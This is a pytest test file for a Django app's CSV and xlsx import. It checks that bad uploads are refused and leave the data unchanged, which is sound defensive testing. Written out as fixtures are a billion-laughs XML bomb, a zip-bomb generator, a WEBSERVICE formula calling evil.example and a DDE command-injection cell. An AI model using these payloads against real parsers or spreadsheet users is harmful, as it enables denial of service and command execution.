"""Every bad file gets a clear message and leaves the database unchanged (R-IMP-6)."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
import xlsxwriter
from django.conf import settings

from apps.core.errors import ServiceError
from apps.imports.models import ImportJob, ImportStatus
from apps.prospects.models import Company, Person, Prospect
from tests.imports.helpers import HEADERS, csv_bytes, run_import, upload, xlsx_bytes

pytestmark = pytest.mark.django_db


def _snapshot() -> tuple[int, int, int, int]:
    # A file refused by the worker's check leaves its job, failed with the reason (R-IMP-2).
    live_jobs = ImportJob.objects.exclude(status=ImportStatus.FAILED).count()
    return (Company.objects.count(), Person.objects.count(), Prospect.objects.count(), live_jobs)


def _zip_with(parts: dict[str, bytes], base: bytes | None = None) -> bytes:
    """A copy of a real xlsx with parts added or replaced."""
    source = zipfile.ZipFile(io.BytesIO(base or xlsx_bytes([["A", "", "", "", "", "", "", "", ""]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename not in parts:
                target.writestr(item, source.read(item.filename))
        for name, data in parts.items():
            target.writestr(name, data)
    return out.getvalue()


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">
<si><t>&lol3;</t></si></sst>"""


def _zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        target.writestr("[Content_Types].xml", "<Types/>")
        target.writestr("xl/workbook.xml", "<workbook/>")
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        with target.open(info, "w", force_zip64=True) as part:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(settings.IMPORT_MAX_UNCOMPRESSED_BYTES // len(chunk) + 2):
                part.write(chunk)
    return out.getvalue()


def _macro_xlsx() -> bytes:
    base = xlsx_bytes([["A", "", "", "", "", "", "", "", ""]])
    types = zipfile.ZipFile(io.BytesIO(base)).read("[Content_Types].xml")
    types = types.replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    return _zip_with({"[Content_Types].xml": types, "xl/vbaProject.bin": b"\0" * 64}, base)


def _encrypted_xlsx() -> bytes:
    # What Excel writes for a password-protected workbook: an OLE2 compound file.
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000


BAD_FILES = {
    "empty": ("database.csv", b"", "empty"),
    "wrong extension": ("database.pdf", b"%PDF-1.4 hello", "Only .xlsx and .csv"),
    "renamed binary as xlsx": ("database.xlsx", b"\x89PNG\r\n\x1a\n" + b"\0" * 100, "not a real .xlsx"),
    "renamed binary as csv": ("database.csv", b"\x89PNG\r\n\x1a\n\0\0\0" + b"\0" * 100, "binary"),
    "xlsm by name": ("database.xlsm", b"PK\x03\x04", "macros"),
    "macros inside an xlsx": ("database.xlsx", None, "macros"),
    "encrypted xlsx": ("database.xlsx", None, "password-protected"),
    "zip bomb": ("database.xlsx", None, "unpacks to more than"),
    "billion laughs": ("database.xlsx", None, "XML declarations"),
    "utf-16": ("database.csv", "Bedrijfsnaam,Plaats\r\nBakker,Utrecht\r\n".encode("utf-16-le"), "UTF-16"),
    "unbalanced quotes": ("database.csv", b'Bedrijfsnaam,Plaats\r\n"Bakker,Utrecht\r\nVisser,Delft\r\n', "quote"),
    "no recognisable column": ("database.csv", b"foo,bar\r\n1,2\r\n", "No column"),
    "corrupt xlsx": ("database.xlsx", b"PK\x03\x04" + b"garbage" * 50, "damaged"),
}


@pytest.mark.parametrize("case", list(BAD_FILES))
def test_bad_file_is_refused_with_a_clear_message_and_nothing_changes(world, case: str) -> None:
    filename, data, message = BAD_FILES[case]
    if data is None:
        data = {
            "macros inside an xlsx": _macro_xlsx,
            "encrypted xlsx": _encrypted_xlsx,
            "zip bomb": _zip_bomb,
            "billion laughs": lambda: _zip_with({"xl/sharedStrings.xml": BILLION_LAUGHS}),
        }[case]()
    before = _snapshot()
    with pytest.raises(ServiceError) as refused:
        upload(world.assignment, world.users["client_same_tenant"], data, filename)
    assert message.lower() in refused.value.messages[0].lower()
    assert _snapshot() == before
    assert not any(Path(settings.MEDIA_ROOT, "imports").iterdir())  # nothing of the file is kept


def test_one_row_over_the_cap_is_refused(world, settings) -> None:
    settings.IMPORT_MAX_ROWS = 3
    rows = [[f"Bedrijf {i}", "", "", "", "", "", "", "", ""] for i in range(4)]
    before = _snapshot()
    with pytest.raises(ServiceError, match="more than 3 rows"):
        upload(world.assignment, world.users["client_same_tenant"], csv_bytes(rows))
    assert _snapshot() == before
    job = run_import(world.assignment, world.users["client_same_tenant"], csv_bytes(rows[:3]))
    assert job.status == ImportStatus.DONE and job.companies_new == 3


def test_file_over_the_size_limit_is_refused(world, settings) -> None:
    settings.IMPORT_MAX_BYTES = 100
    with pytest.raises(ServiceError, match="larger than"):
        upload(world.assignment, world.users["client_same_tenant"], csv_bytes([["x" * 200] + [""] * 8]))


def test_windows_1252_with_diaeresis_and_semicolons(world) -> None:
    data = csv_bytes([["Café Noël", "", "1234 AB", "Zoë-stad", "", "", "", "", ""]], delimiter=";", encoding="cp1252")
    job = run_import(world.assignment, world.users["client_same_tenant"], data)
    assert job.status == ImportStatus.DONE
    company = Company.objects.get(name="Café Noël")
    assert company.city == "Zoë-stad"


def test_utf8_with_bom(world) -> None:
    data = "\ufeff".encode() + csv_bytes([["Ëlla BV", "", "", "", "", "", "", "", ""]])
    job = run_import(world.assignment, world.users["client_same_tenant"], data)
    assert job.status == ImportStatus.DONE and Company.objects.filter(name="Ëlla BV").exists()


def test_formula_cells_come_in_as_plain_text(world) -> None:
    """A formula typed into a CSV is text; a real formula cell in an xlsx gives its cached value, never runs."""
    headers = [*HEADERS[:-1], "Opmerking"]
    data = csv_bytes([["Evil BV", "", "", "", "", "", "", "", '=WEBSERVICE("http://x")']], headers=headers)
    run_import(world.assignment, world.users["client_same_tenant"], data)
    prospect = Prospect.objects.get(company__name="Evil BV")
    assert prospect.extra["Opmerking"] == '=WEBSERVICE("http://x")'

    out = io.BytesIO()
    workbook = xlsxwriter.Workbook(out, {"in_memory": True})
    sheet = workbook.add_worksheet()
    sheet.write_row(0, 0, ["Bedrijfsnaam", "Opmerking"])
    sheet.write_string(1, 0, "Formula BV")
    sheet.write_formula(1, 1, '=WEBSERVICE("http://evil.example")', None, "cached")
    sheet.write_string(2, 0, "Pipe BV")
    sheet.write_string(2, 1, "+cmd|' /C calc'!A0")
    workbook.close()
    run_import(world.assignment, world.users["client_same_tenant"], out.getvalue(), "db.xlsx")
    assert Prospect.objects.get(company__name="Formula BV").extra["Opmerking"] == "cached"
    assert Prospect.objects.get(company__name="Pipe BV").extra["Opmerking"] == "+cmd|' /C calc'!A0"


def test_upload_needs_an_accepted_processor_agreement(world) -> None:
    from tests import factories

    assignment = factories.AssignmentFactory(client=world.acme, accepted=False, active=False)
    with pytest.raises(ServiceError, match="processor agreement"):
        upload(assignment, world.users["client_same_tenant"], csv_bytes([["A"] + [""] * 8]))


def test_xlsx_one_row_over_the_cap_is_refused_at_upload(world, settings) -> None:
    settings.IMPORT_MAX_ROWS = 3
    rows = [[f"Bedrijf {i}", "", "", "", "", "", "", "", ""] for i in range(4)]
    with pytest.raises(ServiceError, match="more than 3 rows"):
        upload(world.assignment, world.users["client_same_tenant"], xlsx_bytes(rows), "db.xlsx")
    job = run_import(world.assignment, world.users["client_same_tenant"], xlsx_bytes(rows[:3]), "db.xlsx")
    assert job.status == ImportStatus.DONE and job.companies_new == 3
